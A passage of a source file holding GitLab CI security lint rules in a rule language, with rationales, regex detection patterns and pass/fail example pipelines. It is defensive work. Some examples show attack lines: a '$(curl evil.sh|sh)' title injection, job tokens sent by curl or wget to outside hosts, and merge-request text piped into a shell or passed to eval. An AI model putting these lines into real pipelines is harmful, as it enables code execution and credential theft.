            id_tokens:
              T: ↓{}
            script: [x]
        """ expect "job 'a'" expect "job 'b'" expect "ID token 'T' of job 'c' has no audience"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/image_pinned_by_digest.plumb",
      text: #"""
      rule image_pinned_by_digest {
        title "GitLab jobs run images pinned by digest"
        severity medium
        category security
        tags [gitlab-ci, supply-chain, containers]
        rationale """
          An image tag, `latest` above all, can be re-pushed: the job then runs code nobody reviewed,
          with the pipeline's variables and deploy credentials. A `@sha256:` digest names exactly one
          image. An image whose whole name comes from a variable the file does not define (a project or
          predefined variable) cannot be judged and is not reported; a tag built from variables
          (`ruby:${RUBY_VERSION}`) is still a tag.
        """
        remediation "Reference the image by digest: `image: registry/name:1.2.3@sha256:…` (Renovate keeps such pins up to date)."

        for j in gitlab.job
        let img = j.image_ref
        let shown = default(img.expanded, img.raw)
        when exists(img) and not (img.dynamic and not exists(img.tag) and not exists(img.digest) and img.name matches "\\$[^/$]*$")
        let moving = not exists(img.digest) and default(img.tag, "") in ["", "latest"]
        require not moving
          else "job '${j.name}' runs '${shown}', a moving 'latest' image" at img
        require moving or exists(img.digest)
          else "job '${j.name}' runs '${shown}' by tag, not by digest" at img

        example pass """
          build:
            image: ruby:3.3.6@sha256:4b7e0c1d2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c
            script: [make]
        """
        example pass "an image named by a variable defined elsewhere" """
          lint:
            image: $LINT_IMAGE
            script: [make lint]
        """
        example fail "latest" """
          build:
            image: ↓docker:latest
            script: [make]
        """ expect "job 'build' runs 'docker:latest', a moving 'latest' image"
        example fail "tag" """
          variables:
            RUBY_VERSION: "3.3"
          test:
            image: ↓ruby:${RUBY_VERSION}-alpine
            script: [rake]
        """ expect "job 'test' runs 'ruby:3.3-alpine' by tag, not by digest"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/include_from_untrusted_variable.plumb",
      text: #"""
      rule include_from_untrusted_variable {
        title "Includes are not chosen by the merge request's source or a pushed ref name"
        severity high
        category security
        tags [gitlab-ci, injection, includes, ppe]
        rationale """
          An include whose project, ref, file or URL comes from `$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH`
          (or `_ID`, `_URL`), `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`/`_SHA`, the external pull request's
          source, or the pushed branch, tag or commit text (`$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`,
          `$CI_COMMIT_TAG`, `$CI_COMMIT_MESSAGE`) takes pipeline configuration from wherever the person
          who opened the merge request or pushed the ref points: a fork's project or a branch they
          control. Their jobs then run in this project's pipeline, with its variables and runners
          (poisoned pipeline execution). Local includes are not reported: they are read from the commit
          being built anyway.
        """
        remediation "Include configuration only from fixed projects and refs (`project: acme/ci-templates`, `ref: v2.4.1`); to test changes of a template, run the template project's own pipeline."
        param untrusted: pattern = "\\$\\{?(CI_MERGE_REQUEST_SOURCE_(PROJECT_PATH|PROJECT_ID|PROJECT_URL|BRANCH_NAME|BRANCH_SHA)|CI_EXTERNAL_PULL_REQUEST_SOURCE_(REPOSITORY|BRANCH_NAME|BRANCH_SHA)|CI_COMMIT_(BRANCH|REF_NAME|TAG|MESSAGE|TITLE|DESCRIPTION))\\b"

        for p in gitlab.pipeline
        let bad = filter(i in p.includes, i.kind != "local"
          and (to_string(default(i.value, "")) matches param.untrusted
            or to_string(default(i.ref, "")) matches param.untrusted
            or any(f in flatten([default(i.file, [])]), to_string(f) matches param.untrusted)))
        require count(bad) == 0
          else "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: '${first(bad).value}' (${count(bad)} such include(s))" at first(bad)

        example pass """
          include:
            - project: acme/ci-templates
              ref: v2.4.1
              file: /templates/build.yml
            - local: ci/$CI_PIPELINE_SOURCE.yml
          build:
            script: [make]
        """
        example fail "the fork's project" """
          include:
            - ↓project: $CI_MERGE_REQUEST_SOURCE_PROJECT_PATH
              ref: $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME
              file: .gitlab/ci/tests.yml
          build:
            script: [make]
        """ expect "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: '$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH'"
        example fail "a ref or URL named by the branch" """
          include:
            - ↓project: acme/ci-templates
              ref: ${CI_COMMIT_REF_NAME}
              file: /templates/build.yml
            - remote: https://ci.example.com/$CI_COMMIT_BRANCH/deploy.yml
          build:
            script: [make]
        """ expect "the pipeline includes configuration chosen by whoever opens the merge request or pushes the ref: 'acme/ci-templates'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/include_ref_not_pinned.plumb",
      text: #"""
      rule include_ref_not_pinned {
        title "Project and component includes are pinned to a fixed version"
        severity medium
        category security
        tags [gitlab-ci, supply-chain, includes]
        rationale """
          `include: project:` without `ref:` reads the other project's default branch, and a branch
          `ref:` (or a component at `@main` or `@~latest`) follows whatever is pushed there next: anyone
          who can push to that project changes the jobs of every pipeline that includes it, with your
          variables and credentials, without a change in your repository. A release tag is fixed unless
          it is deleted and re-created; a full commit SHA cannot change at all (set `require_sha`).
        """
        remediation "Set `ref:` to a release tag or, better, a full commit SHA (`ref: 4f2c9e1d…`), and pin components to a released version (`@1.4.2`) or a SHA instead of a branch or `~latest`."
        param require_sha: bool = false

        for p in gitlab.pipeline
        let version = "^v?[0-9]+(\\.[0-9]+)*([-+][0-9A-Za-z.-]+)?$"
        let sha = "^[0-9a-f]{40}$"
        let project_bad = filter(i in p.includes, i.kind == "project"
          and not (to_string(default(i.ref, "")) matches sha)
          and (param.require_sha or not (to_string(default(i.ref, "")) matches version)))
        let component_bad = filter(i in p.includes, i.kind == "component"
          and not (last(split(to_string(i.value), "@")) matches sha)
          and (param.require_sha or not (contains(to_string(i.value), "@") and last(split(to_string(i.value), "@")) matches version)))
        require count(project_bad) == 0
          else "the pipeline includes '${first(project_bad).file}' from project '${first(project_bad).value}' at ${default(first(project_bad).ref, "its default branch")}, which can change under it (${count(project_bad)} such include(s))" at first(project_bad)
        require count(component_bad) == 0
          else "the pipeline includes component '${first(component_bad).value}', whose version can change under it (${count(component_bad)} such include(s))" at first(component_bad)

        example pass """
          include:
            - project: acme/ci-templates
              ref: 2.4.1
              file: /templates/build.yml
            - project: acme/ci-templates
              ref: 4f2c9e1d8b7a6c5e4d3f2a1b0c9d8e7f6a5b4c3d
              file: /templates/deploy.yml
            - component: $CI_SERVER_FQDN/acme/components/lint@1.4.2
          build:
            script: [make]
        """
        example fail """
          include:
            - ↓project: acme/ci-templates
              file: /templates/build.yml
            - ↓component: $CI_SERVER_FQDN/acme/components/lint@~latest
            - component: $CI_SERVER_FQDN/acme/components/scan@main
          build:
            script: [make]
        """ expect "the pipeline includes '/templates/build.yml' from project 'acme/ci-templates' at its default branch" expect "component '$CI_SERVER_FQDN/acme/components/lint@~latest', whose version can change under it (2 such include(s))"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/job_prints_environment.plumb",
      text: #"""
      rule job_prints_environment {
        title "Job scripts do not print the whole environment"
        severity medium
        category security
        tags [gitlab-ci, secrets, logging]
        rationale """
          `env`, `printenv`, `export -p`, `set` or `declare -p` on their own print every variable of the
          job into its log: CI/CD variables that are not masked (or cannot be: short, multi-line, file
          variables' contents), tokens a script exported, cloud credentials. The log is readable by every
          developer (in public projects, by anyone) for as long as the job is kept.
        """
        remediation "Print only the variables you need (`echo \"$CI_COMMIT_SHA\"`), or filter to names known to be safe (`env | grep '^CI_COMMIT_'`)."
        param dump: pattern = "^\\s*(sudo\\s+)?(env|printenv|export\\s+-p|set|declare\\s+-p|declare\\s+-x|export)\\s*(\\|\\s*(sort|cat|less|tee(\\s+-a)?\\s+\\S+)\\s*)?(;.*)?$"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.dump))
        require count(lines) == 0
          else "job '${j.name}' prints every variable of the job to its log: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.dump)))}'" at first(lines)

        example pass """
          build:
            script:
              - env | grep '^CI_COMMIT_'
              - set -euo pipefail
              - export PATH="$HOME/bin:$PATH"
              - env GOOS=linux go build ./...
              - printenv HOME
        """
        example fail "env and printenv" """
          debug:
            script:
              - ↓env
          sorted:
            before_script:
              - ↓printenv | sort
            script: [make]
        """ expect "job 'debug' prints every variable of the job to its log: 'env'" expect "job 'sorted'"
        example fail "export -p in a block" """
          debug:
            script:
              - ↓|
                echo "environment:"
                export -p
        """ expect "job 'debug' prints every variable"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/job_token_sent_outside_gitlab.plumb",
      text: #"""
      rule job_token_sent_outside_gitlab {
        title "The job token is sent only to GitLab"
        severity high
        category security
        tags [gitlab-ci, secrets, third-party]
        rationale """
          `$CI_JOB_TOKEN` authenticates as the user who started the pipeline, to this GitLab and every
          project that allows this project's token: its API, package registries, container registry,
          repositories. A request that carries it to another host (a webhook, an artifact server, a
          third-party API) hands those rights to that host's operators, its logs and anyone on the
          network path. Reported: script lines that use `$CI_JOB_TOKEN` with an `http(s)://` URL whose
          host is neither a `$CI_…` variable nor a GitLab host.
        """
        remediation "Send the job token only to `$CI_API_V4_URL`, `$CI_SERVER_URL` or `$CI_REGISTRY`; give other services their own narrowly scoped credential."
        param outside: pattern = "(?i)https?://(?!\\$\\{?CI_|[^/\\s\"']*gitlab|localhost\\b|127\\.0\\.0\\.1)[a-z0-9.-]+\\.[a-z]{2,}"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches "\\$\\{?CI_JOB_TOKEN\\b" and x matches param.outside))
        require count(lines) == 0
          else "job '${j.name}' sends $CI_JOB_TOKEN to a host outside GitLab: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches "CI_JOB_TOKEN")))}'" at first(lines)

        example pass """
          release:
            script:
              - 'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file pkg.tgz "${CI_API_V4_URL}/projects/${CI_PROJECT_ID}/packages/generic/pkg/1.0/pkg.tgz"'
              - git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.example.com/acme/tools.git
              - curl -fsS https://downloads.example.com/tool.tgz -o tool.tgz
        """
        example fail "header and query" """
          notify:
            script:
              - ↓'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://hooks.example.net/ci'
          fetch:
            script:
              - ↓wget "https://artifacts.example.org/get?token=${CI_JOB_TOKEN}"
        """ expect "job 'notify' sends $CI_JOB_TOKEN to a host outside GitLab" expect "job 'fetch'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/merge_request_job_with_secrets.plumb",
      text: #"""
      rule merge_request_job_with_secrets {
        title "Jobs that run for merge requests do not receive secrets or ID tokens"
        severity medium
        category security
        tags [gitlab-ci, secrets, pbac]
        rationale """
          A merge-request pipeline runs the code of the merge request's source branch, which its author
          wrote; when the project runs pipelines for merge requests from forks in the parent project,
          that author is an outsider. A job of such a pipeline that fetches `secrets:` (Vault, cloud
          secret managers) or mints `id_tokens:` hands them to that code: the build scripts, tests and
          dependencies of the branch can read and send them anywhere. Reported: jobs with a rule that
          runs them for merge requests (`$CI_PIPELINE_SOURCE == "merge_request_event"`,
          `$CI_MERGE_REQUEST_IID`, `external_pull_request_event`) or `only: [merge_requests]`, and
          `secrets:` or `id_tokens:` (also from `default:`).
        """
        remediation "Move the job that needs credentials to pipelines of protected branches or tags (`rules: [{if: '$CI_COMMIT_REF_PROTECTED == \"true\"'}]`), and let merge-request jobs work without them."
        param mr_rule: pattern = "(==|=~)\\s*[\"'/]?(merge_request_event|external_pull_request_event)|\\$CI_MERGE_REQUEST_I?ID\\b(?!\\s*==\\s*null)|\\$CI_EXTERNAL_PULL_REQUEST_IID\\b(?!\\s*==\\s*null)"

        for j in gitlab.job
        let mr_rules = filter(r in j.rules_list, to_string(default(r.when, "")) != "never" and to_string(default(r["if"], "")) matches param.mr_rule)
        let only = default(j.only.refs, j.only)
        let mr_only = any(o in default(only, []), to_string(o) == "merge_requests" or to_string(o) == "external_pull_requests")
        when count(mr_rules) > 0 or mr_only
        require not exists(j.secrets)
          else "job '${j.name}' runs for merge requests and fetches secrets (${join(keys(j.secrets), ", ")}): the merge request's code can read them" at j.secrets
        require not exists(j.id_tokens)
          else "job '${j.name}' runs for merge requests and mints ID tokens (${join(keys(j.id_tokens), ", ")}): the merge request's code can use them" at j.id_tokens

        example pass """
          test:
            rules:
              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
            script: [make test]
          deploy:
            rules:
              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
                when: never
              - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
            secrets:
              DATABASE_PASSWORD:
                vault: production/db/password@ops
            script: [./deploy.sh]
        """
        example fail "secrets" """
          integration:
            rules:
              - if: $CI_PIPELINE_SOURCE == 'merge_request_event'
            secrets:
              ↓API_KEY:
                vault: ci/api/key@secrets
            script: [make integration]
        """ expect "job 'integration' runs for merge requests and fetches secrets (API_KEY)"
        example fail "id_tokens from default, only: merge_requests" """
          default:
            id_tokens:
              ↓AWS_TOKEN:
                aud: sts.amazonaws.com
          plan:
            only: [merge_requests]
            script: [terraform plan]
          review:
            rules:
              - if: $CI_MERGE_REQUEST_IID
            script: [./review.sh]
        """ expect "job 'plan' runs for merge requests and mints ID tokens (AWS_TOKEN)" expect "job 'review'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/merge_request_variable_injection.plumb",
      text: #"""
      rule merge_request_variable_injection {
        title "Merge request and commit text is not evaluated as code"
        severity high
        category security
        tags [gitlab-ci, injection]
        rationale """
          Anyone who can push a branch or tag or open a merge request (from a fork too, when the project
          runs fork pipelines) chooses `$CI_MERGE_REQUEST_TITLE`, `$CI_MERGE_REQUEST_DESCRIPTION`,
          `$CI_COMMIT_MESSAGE`, `$CI_COMMIT_TITLE`, `$CI_COMMIT_AUTHOR`, and the branch and tag names in
          `$CI_COMMIT_BRANCH`, `$CI_COMMIT_REF_NAME`, `$CI_COMMIT_TAG` and
          `$CI_MERGE_REQUEST_SOURCE_BRANCH_NAME`. As a quoted argument they are data; passed to `eval`,
          `sh -c`, `bash -c`, `python -c` or `ssh host …`, piped or fed by a here-document into a shell,
          put in command position, or left unquoted where word splitting adds options that run code
          (`git`, `find`, `tar`, interpreters), they are parsed as code, so a title such as
          `$(curl evil.sh|sh)` runs with the job's token and variables. The value is followed through
          `variables:` at every level (global, job, `extends`, `!reference`, `rules:` and `workflow:
          rules:` variables) and script assignments (docs/inputs/gitlab-ci.md, "Dataflow"); the finding
          shows the path. The same happens when `$[[ inputs.x | expand_vars ]]` pastes a variable's
          value into the script text.
        """
        remediation "Do not build code from these values: pass them as quoted arguments (`./check-title.sh \"$CI_MERGE_REQUEST_TITLE\"`), validate them against a strict pattern, or use `$CI_COMMIT_REF_SLUG`; drop `expand_vars` from inputs used in scripts."

        for j in gitlab.job
        let sinks = j.tainted_sinks
        let sink = first(sinks)
        let expanded = filter(l in j.script_lines, to_string(l) matches "\\$\\[\\[\\s*inputs\\.[A-Za-z0-9_-]+\\s*\\|[^\\]]*\\bexpand_vars\\b")
        require count(sinks) == 0
          else "job '${j.name}' evaluates text chosen by whoever pushes or opens the merge request: '${sink.line}' runs ${sink.via} as code (${sink.kind})" at sink.line
        require count(expanded) == 0
          else "job '${j.name}' pastes an input with 'expand_vars' into its script; variables in the input's value are expanded into code" at first(expanded)

        example pass """
          lint-title:
            rules:
              - if: $CI_PIPELINE_SOURCE == "merge_request_event"
            script:
              - ./check-title.sh "$CI_MERGE_REQUEST_TITLE"
              - echo "Building $CI_COMMIT_REF_SLUG"
              - sh -c './build.sh --fast'
        """
        example fail """
          lint-title:
            script:
              - ↓eval "echo Checking $CI_MERGE_REQUEST_TITLE"
          notify:
            script:
              - ↓sh -c "notify --branch $CI_COMMIT_BRANCH"
        """ expect "job 'lint-title' evaluates text chosen by whoever pushes or opens the merge request: 'eval \"echo Checking $CI_MERGE_REQUEST_TITLE\"'" expect "job 'notify' evaluates"
        example fail "expand_vars" {
          file ".gitlab-ci.yml" """
            spec:
              inputs:
                message:
                  default: $CI_COMMIT_MESSAGE
            ---
            announce:
              script:
                - ↓echo "$[[ inputs.message | expand_vars ]]"
          """
        } expect "pastes an input with 'expand_vars' into its script"
        example pass "quoted data, single-quoted code, quoted here-document" """
          variables:
            TITLE: $CI_MERGE_REQUEST_TITLE
          notify:
            script:
              - echo "$TITLE" > title.txt
              - git log --format=%s "$CI_COMMIT_BRANCH"
              - bash -c 'printf "%s\n" "$CI_COMMIT_MESSAGE"'
              - |
                python3 - <<'EOF'
                import os; print(os.environ["CI_COMMIT_TITLE"])
                EOF
              - echo "$CI_COMMIT_DESCRIPTION" | grep -q skip || make
        """
        example fail "through variables and extends" """
          variables:
            TITLE: "$CI_MERGE_REQUEST_TITLE"
          .notify:
            variables:
              MESSAGE: "MR: ${TITLE}"
          notify:
            extends: .notify
            script:
              - ↓bash -c "slack-post $MESSAGE"
        """ expect "runs CI_MERGE_REQUEST_TITLE → variables: TITLE → '.notify' variables: MESSAGE (extends) as code (bash -c)"
        example fail "eval even when quoted" """
          release:
            rules:
              - if: $CI_COMMIT_TAG
                variables:
                  VERSION: $CI_COMMIT_TAG
            script:
              - ↓eval "export RELEASE_VERSION=$VERSION"
        """ expect "(eval)"
        example fail "unquoted where word splitting runs code, command position, pipe into a shell" """
          a:
            script:
              - ↓git log $CI_COMMIT_MESSAGE
          b:
            script:
              - export STEP="$CI_COMMIT_TITLE"
              - ↓$STEP --check
          c:
            script:
              - ↓echo "$CI_MERGE_REQUEST_DESCRIPTION" | sh
          d:
            script:
              - ↓|
                python3 <<EOF
                print("$CI_COMMIT_BRANCH")
                EOF
        """ expect "(unquoted argument)" expect "(command position)" expect "(piped into sh)" expect "(here-document into python3)"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/needs_artifacts_from_other_project.plumb",
      text: #"""
      rule needs_artifacts_from_other_project {
        title "Artifacts from other projects come from a fixed ref"
        severity medium
        category security
        tags [gitlab-ci, artifact-integrity, supply-chain]
        rationale """
          `needs: [{project: other/project, job: build, ref: main, artifacts: true}]` downloads the
          artifacts of the latest successful job of that project's ref into this job's workspace, where
          the job runs or ships them. A branch ref (or one built from variables) gives whatever the last
          pipeline of that branch produced: whoever can push to that branch in that project, or run a
          pipeline for it, chooses the files this pipeline executes or releases. A release tag is fixed
          unless it is deleted and re-created.
        """
        remediation "Point `ref:` at a release tag of the other project, verify the downloaded files (a checksum or signature published with the release), or rebuild them in this pipeline."
        param version: pattern = "^v?[0-9]+(\\.[0-9]+)+([-+][0-9A-Za-z.-]+)?$"

        for j in gitlab.job
        let cross = filter(n in default(j.needs, []), exists(n.project) and default(n.artifacts, true) != false
          and not (to_string(default(n.ref, "")) matches param.version))
        require count(cross) == 0
          else "job '${j.name}' runs with artifacts of job '${first(cross).job}' from project '${first(cross).project}' at '${default(first(cross).ref, "its default branch")}', which whoever pushes there changes" at first(cross).project

        example pass """
          package:
            needs:
              - project: acme/ui
                job: build
                ref: v2.3.1
                artifacts: true
              - project: acme/docs
                job: build
                ref: main
                artifacts: false
            script: [./package.sh]
        """
        example fail "branch ref" """
          package:
            needs:
              - project: ↓acme/ui
                job: build
                ref: main
                artifacts: true
            script: [./package.sh]
        """ expect "job 'package' runs with artifacts of job 'build' from project 'acme/ui' at 'main'"
        example fail "variable ref" """
          package:
            needs:
              - pipeline: $PARENT_PIPELINE_ID
                job: generate
              - project: ↓$UPSTREAM_PROJECT
                job: build
                ref: $UPSTREAM_REF
            script: [./package.sh]
        """ expect "job 'package' runs with artifacts of job 'build' from project '$UPSTREAM_PROJECT' at '$UPSTREAM_REF'"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/package_extra_index_url.plumb",
      text: #"""
      rule package_extra_index_url {
        title "Python packages are not resolved across several indexes"
        severity medium
        category security
        tags [gitlab-ci, supply-chain, dependency-confusion]
        rationale """
          `pip install --extra-index-url` (or `PIP_EXTRA_INDEX_URL`, `uv --extra-index-url`, Poetry's
          `supplemental` sources) makes pip take each package from whichever index offers the highest
          version: anyone who publishes a package with the name of an internal one on PyPI, at a higher
          version, has their code installed and run by the job (dependency confusion). A single index
          that proxies PyPI, or `--index-url` alone, has no such race.
        """
        remediation "Use one index (`--index-url` of a registry that proxies PyPI and serves internal packages), pin hashes (`--require-hashes`), or with uv set `index-strategy = \"first-index\"` and name the index per package."
        param extra: pattern = "(\\b(pip3?|uv\\s+pip|python3?\\s+-m\\s+pip|pipenv|uv)\\b[^\\n|;]{0,400}\\s--extra-index-url\\b|\\bPIP_EXTRA_INDEX_URL=|\\bpip3?\\s+config\\s+set\\s+global\\.extra-index-url\\b)"

        for j in gitlab.job
        let pipeline = first(j -> inPipeline)
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.extra and not (x matches "--require-hashes|^\\s*#")))
        let var = default(j.variables.PIP_EXTRA_INDEX_URL, pipeline.variables.PIP_EXTRA_INDEX_URL)
        require count(lines) == 0
          else "job '${j.name}' installs Python packages from several indexes, the highest version wins: '${trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.extra)))}'" at first(lines)
        require not exists(var)
          else "job '${j.name}' sets PIP_EXTRA_INDEX_URL: packages come from whichever index offers the highest version" at default(var.value, var)

        example pass """
          test:
            script:
              - pip install --index-url "$PYPI_PROXY_URL" -r requirements.txt
              - pip install --require-hashes --extra-index-url https://pypi.example.com/simple -r requirements.lock
        """
        example fail "option" """
          test:
            script:
              - ↓pip install --extra-index-url https://pypi.example.com/simple -r requirements.txt
          uv:
            script:
              - ↓uv pip install --extra-index-url "$INTERNAL_INDEX" app
        """ expect "job 'test' installs Python packages from several indexes" expect "job 'uv'"
        example fail "variable" """
          variables:
            PIP_EXTRA_INDEX_URL: ↓https://pypi.example.com/simple
          test:
            script: [pip install -r requirements.txt]
        """ expect "job 'test' sets PIP_EXTRA_INDEX_URL"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/publish_job_unrestricted.plumb",
      text: #"""
      rule publish_job_unrestricted {
        title "Package publishing runs only for the default branch, protected refs or tags"
        severity high
        category security
        tags [gitlab-ci, supply-chain, flow-control]
        rationale """
          A job that publishes a package (`npm publish`, `twine upload`, `gem push`, `cargo publish`,
          `mvn deploy`, `gradle publish`, `poetry publish`, `helm push`, `dotnet nuget push`) without
          `rules:` or `only:` that limit it to the default branch, protected refs or tags publishes
          whatever any pushed branch contains, with the registry credentials the job holds: everyone who
          installs the package runs that code. Dry runs (`--dry-run`) are not reported. Rules with
          `when: never` exclude and are not counted; every other rule must require the default branch,
          a protected ref or a tag.
        """
        remediation "Limit the job: `rules: [{if: '$CI_COMMIT_TAG'}]` or `{if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH'}` (or `$CI_COMMIT_REF_PROTECTED == \"true\"`), and keep the registry token in a protected variable."
        param publish: pattern = "(?i)(\\b(npm|pnpm|yarn)\\s++(?:\\S++\\s++){0,6}?publish(?![\\w-])|\\btwine\\s++upload\\b|\\bgem\\s++push\\b|\\bcargo\\s++publish\\b|\\bmvnw?\\s++(?:\\S++\\s++){0,12}?deploy\\b|\\bgradlew?\\b[^\\n]{0,400}\\bpublish\\w*\\b|\\bpoetry\\s++publish\\b|\\bhelm\\s++(cm-)?push\\b|\\b(dotnet\\s++nuget|nuget)\\s++push\\b|\\b(flit|hatch)\\s++publish\\b)"
        param restricted: pattern = "(?i)(\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*\\$CI_DEFAULT_BRANCH|\\$CI_DEFAULT_BRANCH\\s*==\\s*\\$CI_COMMIT_(BRANCH|REF_NAME)|\\$CI_COMMIT_REF_PROTECTED\\s*==\\s*[\"']?true|\\$CI_COMMIT_TAG\\b(?!\\s*==\\s*(null|\"\"|''))|\\$CI_COMMIT_(BRANCH|REF_NAME)\\s*==\\s*[\"']?(main|master|production|stable)[\"']?)"
        param restricted_only: pattern = "^(main|master|production|stable|tags)$"

        for j in gitlab.job
        let lines = filter(l in j.script_lines, any(x in split(to_string(l), "\n"), x matches param.publish and not (x matches "--dry-run\\b|^\\s*#")))
        when count(lines) > 0
        let runs = filter(r in j.rules_list, to_string(default(r.when, "")) != "never")
        let loose = filter(r in runs, not (exists(r["if"])
          and all(part in split(to_string(r["if"]), "||"), part matches param.restricted)))
        let only = default(j.only.refs, j.only)
        let only_ok = count(default(only, [])) > 0 and all(o in only, to_string(o) matches param.restricted_only)
        let shown = trim(first(filter(x in split(to_string(first(lines)), "\n"), x matches param.publish)))
        require (count(j.rules_list) > 0 and count(loose) == 0) or (count(j.rules_list) == 0 and only_ok)
          else "job '${j.name}' publishes ('${shown}') for any branch: nothing limits it to the default branch, protected refs or tags" at first(lines)

        example pass """
          publish:
            stage: deploy
            rules:
              - if: $CI_COMMIT_TAG
            script:
              - npm publish
          pypi:
            only: [tags]
            script: [twine upload dist/*]
          check:
            script: [npm publish --dry-run]
        """
        example fail "no rules" """
          publish:
            stage: deploy
            script:
              - npm ci
              - ↓npm --registry "$REGISTRY" publish
        """ expect "job 'publish' publishes ('npm --registry \"$REGISTRY\" publish') for any branch"
        example fail "loose rules and only: branches" """
          gem:
            rules:
              - if: $CI_PIPELINE_SOURCE == "push"
            script:
              - ↓gem push pkg/*.gem
          maven:
            only: [branches]
            script:
              - ↓mvn -B -s settings.xml deploy
          chart:
            script:
              - ↓|
                helm package chart
                helm cm-push chart-*.tgz repo
        """ expect "job 'gem' publishes" expect "job 'maven' publishes" expect "job 'chart' publishes"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/remote_include_plain_http.plumb",
      text: #"""
      rule remote_include_plain_http {
        title "Remote includes are fetched over HTTPS"
        severity high
        category security
        tags [gitlab-ci, supply-chain, includes]
        rationale """
          `include: remote: http://…` fetches pipeline configuration without TLS each time a pipeline
          is created: anyone on the network path between GitLab and that server (or who can spoof its
          DNS name) rewrites the jobs, images and scripts of the pipeline, which then run with all its
          variables and deploy credentials.
        """
        remediation "Use `https://` (and `integrity: sha256-…`), or vendor the file into the repository and include it with `local:`."

        for p in gitlab.pipeline
        let plain = filter(i in p.includes, i.kind == "remote" and lower(to_string(i.value)) matches "^http://")
        require count(plain) == 0
          else "the pipeline includes '${first(plain).value}' over plain HTTP (${count(plain)} such include(s))" at first(plain)

        example pass """
          include:
            - remote: https://example.com/ci/lint.yml
              integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=
          lint:
            script: [make lint]
        """
        example fail "mapping and string" """
          include:
            - ↓remote: http://ci.example.com/templates/lint.yml
            - HTTP://ci.example.com/templates/deploy.yml
          lint:
            script: [make lint]
        """ expect "the pipeline includes 'http://ci.example.com/templates/lint.yml' over plain HTTP (2 such include(s))"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/remote_include_without_integrity.plumb",
      text: #"""
      rule remote_include_without_integrity {
        title "Remote includes are checked with an integrity hash"
        severity high
        category security
        tags [gitlab-ci, supply-chain, includes]
        rationale """
          `include: remote:` fetches pipeline configuration from a URL each time a pipeline is created.
          Whoever controls that server (or its DNS, or the network path for `http://`) decides which
          jobs run, with which images and scripts, and with all your CI/CD variables and deploy
          credentials; the change leaves no trace in your repository. `integrity: sha256-…` (GitLab
          17.9+) makes GitLab refuse content that differs from what you reviewed.
        """
        remediation "Add `integrity: sha256-<base64 digest>` to the include (`curl -s URL | openssl dgst -sha256 -binary | base64`), use `https://`, or vendor the file and include it with `local:`."

        for p in gitlab.pipeline
        let unchecked = filter(i in p.includes, i.kind == "remote" and not exists(i.integrity))
        require count(unchecked) == 0
          else "the pipeline includes '${first(unchecked).value}' without an integrity hash (${count(unchecked)} such include(s))" at first(unchecked)

        example pass """
          include:
            - remote: https://example.com/ci/lint.yml
              integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=
            - local: ci/build.yml
          lint:
            extends: .lint
            script: [make lint]
        """
        example fail """
          include:
            - ↓remote: https://example.com/ci/lint.yml
            - https://example.com/ci/deploy.yml
          lint:
            script: [make lint]
        """ expect "the pipeline includes 'https://example.com/ci/lint.yml' without an integrity hash (2 such include(s))"
      }

      """#),
    PolicySource(
      path: "rules/security/gitlab/script_download_piped_to_shell.plumb",
      text: #"""
      rule script_download_piped_to_shell {
        title "GitLab job scripts do not execute scripts downloaded at run time"
        severity medium
        category security
        tags [gitlab-ci, supply-chain]
        rationale """
          `curl … | sh`, `bash <(wget …)` or `iex (iwr …)` run whatever the server returns at that
          moment, with the job's CI_JOB_TOKEN, variables and deploy credentials, without any check: a
          compromised download site, CDN or DNS entry, or a changed install script runs its code in your
          pipeline, and nothing in the repository records which code ran.
        """
        remediation "Download to a file, verify its SHA-256 (`echo \"<sha256>  install.sh\" | sha256sum -c -`), then run it; or bake the tool into a digest-pinned job image."
